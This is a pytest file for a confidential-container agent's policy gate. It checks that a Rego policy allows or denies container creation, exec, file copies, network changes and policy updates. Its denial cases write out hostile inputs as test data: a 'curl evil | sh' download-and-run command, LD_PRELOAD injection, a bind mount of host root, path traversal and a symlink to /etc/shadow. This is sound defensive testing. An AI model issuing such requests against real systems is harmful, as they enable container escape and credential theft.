"""The genpolicy-shaped test policy (tests/policies/pod.rego) through the agent's own gate.

Requests are protobuf messages serialised by our serde, evaluated by regorus,
with pstate patched between calls: the whole path Kata's agent takes, minus
the transport (covered in test_agent_daemon / test_rpc_routing).
"""

from __future__ import annotations

import stat
from typing import Any

import pytest
from google.protobuf import json_format

from agent.binding import READY, Binding
from agent.policy import Policy, literal
from agent.protocols import agent_pb2
from agent.rpc import Code, Context, RpcError
from agent.service import Agent
from launcher.podspec import POLICY_TEXT, web_request

CPATH = "/run/kata-containers/shared/containers"
CTX = Context("test")


class Recorder:
    """A backend that records what the gate let through."""

    def __init__(self) -> None:
        self.calls: list[str] = []

    def __getattr__(self, rpc: str):  # type: ignore[no-untyped-def]
        if rpc.startswith("_"):
            raise AttributeError(rpc)

        def act(req, ctx):  # type: ignore[no-untyped-def]
            self.calls.append(rpc)
            from google.protobuf import empty_pb2

            if rpc in ("ReadStdout", "ReadStderr"):
                return agent_pb2.ReadStreamResponse(data=b"secret output")
            return empty_pb2.Empty()

        return act


@pytest.fixture(scope="module")
def policy() -> Policy:
    return Policy(POLICY_TEXT)


@pytest.fixture(params=["policy_data via json.unmarshal", "policy_data as written"])
def agent(policy, request, monkeypatch):  # type: ignore[no-untyped-def]
    # Every decision below is taken twice: with the start-up rewrite of genpolicy's data literal
    # (agent/policy/literal.py) and with the text compiled exactly as written, as Kata's agent does.
    if request.param == "policy_data as written":
        monkeypatch.setattr(literal, "rewrite", lambda text: None)
    else:
        assert literal.rewrite(POLICY_TEXT) is not None
    policy_fresh = Policy(POLICY_TEXT)
    a = Agent(Binding(READY, "test", policy=policy_fresh), Recorder())
    yield a
    policy_fresh.close()


def call(agent: Agent, rpc: str, req):  # type: ignore[no-untyped-def]
    method = agent.registry().services["grpc.AgentService"].methods[rpc]
    if isinstance(req, dict):
        req = json_format.ParseDict(req, method.request())
    return method.handler(req, CTX)


def denied(agent: Agent, rpc: str, req, contains: str = "") -> str:  # type: ignore[no-untyped-def]
    with pytest.raises(RpcError) as err:
        call(agent, rpc, req)
    assert err.value.code == Code.PERMISSION_DENIED, err.value
    assert contains in err.value.message, err.value.message
    return err.value.message


# --- CreateContainer -----------------------------------------------------------------------------

def test_matching_container_is_allowed_and_recorded(agent) -> None:  # type: ignore[no-untyped-def]
    call(agent, "CreateContainer", web_request("c0ffee00c0ffee00"))
    assert agent.binding.policy.state["pstate"] == {"c0ffee00c0ffee00": 1}
    assert agent.backend.calls == ["CreateContainer"]
    # the same id again is refused: pstate already holds it
    denied(agent, "CreateContainer", web_request("c0ffee00c0ffee00"), "CreateContainerRequest is blocked")


@pytest.mark.parametrize(("edits", "why"), [
    ({"OCI__Annotations": {"io.kubernetes.cri.image-name": "registry.example/evil:latest",
                           "io.kubernetes.cri.container-name": "web", "io.kubernetes.cri.sandbox-name": "demo-pod",
                           "io.kubernetes.cri.sandbox-namespace": "default"}}, ""),
    ({"OCI__Process__Args": ["/bin/sh", "-c", "curl evil | sh"]}, "process args"),
    ({"OCI__Process__Env": ["PATH=/usr/bin", "LD_PRELOAD=/tmp/x.so"]}, "LD_PRELOAD=/tmp/x.so"),
    ({"OCI__Mounts": [{"destination": "/host", "source": "/", "type": "bind", "options": ["rbind", "rw"]}]},
     "mount /host"),
    ({"OCI__Process__Capabilities__Bounding": ["CAP_SYS_ADMIN"]}, "capability CAP_SYS_ADMIN"),
    ({"storages__0__driver_options": ["cocoon.verity.roothash=" + "00" * 32]}, "layer hash"),
    ({"OCI__Hooks": {"Prestart": [{"Path": "/bin/evil"}]}}, "OCI Hooks"),
    ({"container_id": "../../etc"}, ""),
    ({"container_id": "UPPER-case-id"}, ""),
])
def test_container_deviations_are_denied(agent, edits, why) -> None:  # type: ignore[no-untyped-def]
    edits = dict(edits)  # the parameter is shared by every run of this test
    cid = edits.pop("container_id", "c0ffee00c0ffee01")
    denied(agent, "CreateContainer", web_request(cid, **edits), why)
    assert agent.backend.calls == []
    assert agent.binding.policy.state["pstate"] == {}


def test_env_regex_allows_service_variables(agent) -> None:  # type: ignore[no-untyped-def]
    req = web_request("c0ffee00c0ffee02")
    req.OCI.Process.Env.append("DB_SERVICE_HOST=100.64.3.7")
    call(agent, "CreateContainer", req)
    assert agent.binding.policy.state["pstate"] == {"c0ffee00c0ffee02": 1}
    req2 = web_request("c0ffee00c0ffee03")
    req2.OCI.Process.Env.append("DB_SERVICE_HOST=8.8.8.8")  # outside the pod network pattern
    denied(agent, "CreateContainer", req2, "DB_SERVICE_HOST=8.8.8.8")


# --- ExecProcess, tied to the container recorded at creation -------------------------------------

def exec_req(cid: str, args: list[str]) -> dict[str, Any]:
    """An exec with the web container's process settings (cwd, user, no_new_privileges, env), as Kata's rules want."""
    return {"container_id": cid, "exec_id": "e1",
            "process": {"Args": args, "Cwd": "/", "NoNewPrivileges": True, "User": {"UID": 1000, "GID": 1000},
                        "Env": ["PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"]}}


def test_exec_allow_list_is_per_container(agent) -> None:  # type: ignore[no-untyped-def]
    denied(agent, "ExecProcess", exec_req("c0ffee00c0ffee00", ["cat", "/etc/hostname"]), "was not created")
    call(agent, "CreateContainer", web_request("c0ffee00c0ffee00"))
    call(agent, "ExecProcess", exec_req("c0ffee00c0ffee00", ["cat", "/etc/hostname"]))
    denied(agent, "ExecProcess", exec_req("c0ffee00c0ffee00", ["/bin/sh"]), "is not in the allow list")
    denied(agent, "ExecProcess", exec_req("c0ffee00c0ffee00", ["/bin/sidecar", "--health"]),
           "is not in the allow list")  # the sidecar's command, asked of the web container
    call(agent, "RemoveContainer", {"container_id": "c0ffee00c0ffee00"})
    assert agent.binding.policy.state["pstate"] == {}
    denied(agent, "ExecProcess", exec_req("c0ffee00c0ffee00", ["cat", "/etc/hostname"]), "was not created")


# --- CopyFile ------------------------------------------------------------------------------------

@pytest.mark.parametrize(("path", "mode", "data", "allowed"), [
    (f"{CPATH}/c0ffee00c0ffee00-0123456789abcdef-hosts", stat.S_IFREG | 0o644, b"127.0.0.1 x", True),
    (f"{CPATH}/c0ffee00c0ffee00-0123456789abcdef-dir", stat.S_IFDIR | 0o755, b"", True),
    (f"{CPATH}/c0ffee00c0ffee00-0123456789abcdef-../../../etc/shadow", stat.S_IFREG | 0o644, b"x", False),
    ("/etc/passwd", stat.S_IFREG | 0o644, b"root::0:0::/:/bin/sh", False),
    (f"{CPATH}/c0ffee00c0ffee00-0123456789abcdef-link", stat.S_IFLNK | 0o777, b"..data/token", True),
    (f"{CPATH}/c0ffee00c0ffee00-0123456789abcdef-link", stat.S_IFLNK | 0o777, b"/etc/shadow", False),
    (f"{CPATH}/c0ffee00c0ffee00-0123456789abcdef-link", stat.S_IFLNK | 0o777, b"../../../etc", False),
    (f"{CPATH}/c0ffee00c0ffee00-0123456789abcdef-fifo", stat.S_IFIFO | 0o644, b"", False),
])
def test_copy_file(agent, path: str, mode: int, data: bytes, allowed: bool) -> None:  # type: ignore[no-untyped-def]
    req = agent_pb2.CopyFileRequest(path=path, file_mode=mode, file_size=len(data), data=data)
    if allowed:
        call(agent, "CopyFile", req)
        assert agent.backend.calls == ["CopyFile"]
    else:
        denied(agent, "CopyFile", req, "CopyFileRequest is blocked")


# --- network -------------------------------------------------------------------------------------

def test_update_interface_and_routes(agent) -> None:  # type: ignore[no-untyped-def]
    eth0 = {"interface": {"name": "eth0", "hwAddr": "02:42:ac:11:00:02", "mtu": 1500,
                          "IPAddresses": [{"family": "v4", "address": "100.64.0.5", "mask": "24"}]}}
    call(agent, "UpdateInterface", eth0)
    assert agent.backend.calls == ["UpdateInterface"]
    denied(agent, "UpdateInterface", {"interface": {"name": "lo", "hwAddr": "02:00:00:00:00:01"}},
           "interface lo may not be changed")
    denied(agent, "UpdateInterface", {"interface": {"name": "eth0", "hwAddr": "00:00:00:00:00:00"}})
    denied(agent, "UpdateInterface", {"interface": {"name": "eth0", "hwAddr": "02:00:00:00:00:01",
                                                    "raw_flags": 1 | 128}})
    call(agent, "UpdateRoutes", {"routes": {"Routes": [{"dest": "0.0.0.0/0", "gateway": "100.64.0.1",
                                                        "device": "eth0"}]}})
    denied(agent, "UpdateRoutes", {"routes": {"Routes": [{"dest": "10.0.0.0/8", "device": "lo"}]}},
           "routes on lo")
    denied(agent, "UpdateRoutes", {"routes": {"Routes": [{"dest": "10.0.0.0/8", "device": "eth0",
                                                          "source": "127.0.0.1"}]}})
    assert agent.backend.calls == ["UpdateInterface", "UpdateRoutes"]  # denials never reached the backend


# --- SetPolicy, ReadStream -----------------------------------------------------------------------

def test_set_policy_is_refused_by_this_policy(agent) -> None:  # type: ignore[no-untyped-def]
    before = agent.binding.policy
    denied(agent, "SetPolicy", {"policy": "package agent_policy\ndefault ExecProcessRequest := true\n"},
           "SetPolicyRequest is blocked")
    assert agent.binding.policy is before


def test_set_policy_when_allowed_replaces_the_policy() -> None:
    permissive = Policy("package agent_policy\ndefault SetPolicyRequest := true\ndefault ExecProcessRequest := false\n")
    a = Agent(Binding(READY, "test", policy=permissive), Recorder())
    denied(a, "ExecProcess", exec_req("c", ["ls"]))
    call(a, "SetPolicy", {"policy": "package agent_policy\ndefault ExecProcessRequest := true\n"})
    call(a, "ExecProcess", exec_req("c", ["ls"]))
    with pytest.raises(RpcError) as err:
        # the new policy does not define SetPolicyRequest: an empty result, which Kata treats as an error
        call(a, "SetPolicy", {"policy": "package agent_policy\nx := {"})
    assert err.value.code in (Code.INTERNAL, Code.INVALID_ARGUMENT)


def test_read_stream_denial_blanks_data_instead_of_failing() -> None:
    quiet = Policy(POLICY_TEXT.replace('"ReadStreamRequest": true', '"ReadStreamRequest": false'))
    a = Agent(Binding(READY, "test", policy=quiet), Recorder())
    resp = call(a, "ReadStdout", {"container_id": "c", "exec_id": "c", "len": 10})
    assert resp.data == b"" and a.backend.calls == ["ReadStdout"]  # read happened, data redacted
    loud = Agent(Binding(READY, "test", policy=Policy(POLICY_TEXT)), Recorder())
    assert call(loud, "ReadStderr", {"container_id": "c", "exec_id": "c", "len": 10}).data == b"secret output"
